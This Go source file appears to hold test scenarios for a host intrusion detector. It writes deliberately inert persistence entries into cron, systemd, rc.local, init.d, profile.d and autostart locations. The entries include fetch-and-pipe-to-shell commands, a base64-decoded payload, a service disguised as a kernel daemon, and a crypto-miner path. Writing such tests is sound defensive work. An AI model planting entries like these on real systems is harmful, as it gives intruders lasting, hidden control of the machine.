package main

import (
	"fmt"
	"time"
)

const (
	// never is a schedule of cron that no day meets.
	never = "0 0 31 2 *"
	// persistenceSpan is longer than the pause between two looks at files.
	persistenceSpan = 100 * time.Second
)

// persistenceAttacks are entries of what starts programs by itself. Each is harmless
// to a host that really reads it: its day does not come, or its condition is
// false. An entry alone is a warning.
func persistenceAttacks(n *names) []scenario {
	local := entry("rc.local runs from a temporary directory", "T1037.004", false, "/etc/rc.local",
		fmt.Sprintf("#!/bin/sh\nif false; then\n\t%s &\nfi\n", n.temp(".*/*")), 0o755)
	local.unless = "/etc/rc.local"
	return []scenario{
		local,
		entry("cron.d fetches and runs", "T1053.003", true, n.path("/etc/cron.d/*"),
			never+" nobody curl -s http://127.0.0.1/x | sh\n", 0o644),
		entry("user's crontab decodes and runs", "T1053.003", false, n.path("/var/spool/cron/crontabs/*"),
			never+" echo L2Jpbi90cnVlCg== | base64 -d | sh\n", 0o600),
		entry("service runs from a hidden place", "T1543.002", false, n.path("/etc/systemd/system/*.service"),
			fmt.Sprintf("[Unit]\nDescription=Kernel Thread Daemon\n\n[Service]\nExecStart=%s\nRestart=always\n", n.temp(".*/*")), 0o644),
		entry("profile fetches and runs", "T1546.004", false, n.path("/etc/profile.d/*.sh"),
			"if false; then\n\twget -q -O - http://127.0.0.1/x | sh\nfi\n", 0o644),
		entry("script of cron.hourly runs from a hidden place", "T1053.003", false, n.path("/etc/cron.hourly/*"),
			fmt.Sprintf("#!/bin/sh\nif false; then\n\t%s\nfi\n", n.temp(".*/*")), 0o755),
		entry("init script runs from a temporary directory", "T1037.004", false, n.path("/etc/init.d/*"),
			fmt.Sprintf("#!/bin/sh\nif false; then\n\t%s &\nfi\n", n.temp("*")), 0o755),
		entry("desktop entry runs from a hidden place", "T1547.013", false, n.path("/etc/xdg/autostart/*.desktop"),
			fmt.Sprintf("[Desktop Entry]\nType=Application\nName=Updates\nOnlyShowIn=X-Nobody;\nExec=%s\n", n.temp(".*/*")), 0o644),
		entry("unit of all users' sessions fetches and runs", "T1543.002", false, n.path("/etc/systemd/user/*.service"),
			"[Service]\nExecStart=/bin/sh -c 'curl -s http://127.0.0.1/x | bash'\n", 0o644),
		entry("cron.d runs from memory at each start", "T1053.003", false, n.path("/etc/cron.d/*"),
			fmt.Sprintf("%s nobody %s\n", never, n.path("/dev/shm/*")), 0o644),
		entry("cron.d runs a known miner", "T1053.003", false, n.path("/etc/cron.d/*"),
			never+" nobody /usr/local/lib/xmrig --version\n", 0o644),
	}
}

func entry(name, technique string, short bool, path, content string, mode uint32) scenario {
	return scenario{
		name: name, technique: technique, expect: warning, short: short, watch: persistenceSpan, paths: []string{path},
		play: writes(path, content, mode),
	}
}
